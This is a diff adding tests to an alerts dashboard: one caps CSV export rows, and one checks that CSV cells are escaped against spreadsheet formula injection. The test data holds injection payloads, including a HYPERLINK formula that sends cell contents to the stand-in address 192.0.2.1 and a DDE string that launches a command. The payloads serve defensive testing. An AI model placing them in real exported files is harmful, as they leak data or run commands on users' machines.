@@ -175,3 +175,34 @@ def test_dates_past_2262_sort_in_time_order():
     years = [None if pd.isna(t) else t.year for t in
              summary.alerts_table(rows, ["timestamp"])["time (UTC)"]]
     assert years == [2023, 2023, 2286, 2920, 4821, None]
+
+
+def test_csv_holds_at_most_the_limit_and_says_so(summary):
+    table = shown(summary, threshold=-1.0)
+    table.csv_limit = 100
+    assert table.matches == EVENTS > table.csv_limit
+    assert len(pd.read_csv(table.csv())) == 100
+    assert table._download.label == "Download first 100 alerts (CSV)"
+    table.search = "2001:db8"
+    table.csv_limit = 200
+    assert table.matches < 200
+    assert table._download.label == "Download alerts (CSV)"
+    assert len(pd.read_csv(table.csv())) == table.matches
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_stay_text():
+    formulas = ['=HYPERLINK("http://192.0.2.1/"&A1,"click")', "+cmd|' /C calc'!A0",
+                "@SUM(1+1)", "-2+3", "\tTAB", "plain"]
+    summary = EventSummary(normalise_events(pd.DataFrame({
+        "timestamp": pd.date_range("2018-12-22", periods=6, freq="s"),
+        "src_ip": "10.0.0.1", "dest_ip": "10.0.0.2", "host": formulas,
+        "action": formulas, "ml_score": np.linspace(0.9, 0.4, 6),
+    }), "formulas.csv"))
+    table = AlertsTable()
+    table.show(summary, summary.alert_rows(0.0, []))
+    written = pd.read_csv(table.csv(), keep_default_na=False)
+    for column in ("host", "action"):
+        assert written[column].tolist()[:5] == ["'" + text for text in formulas[:5]]
+        assert written[column].tolist()[5] == "plain"
+    # The table itself shows them unchanged.
+    assert table._table.value["host"].astype(str).tolist() == formulas
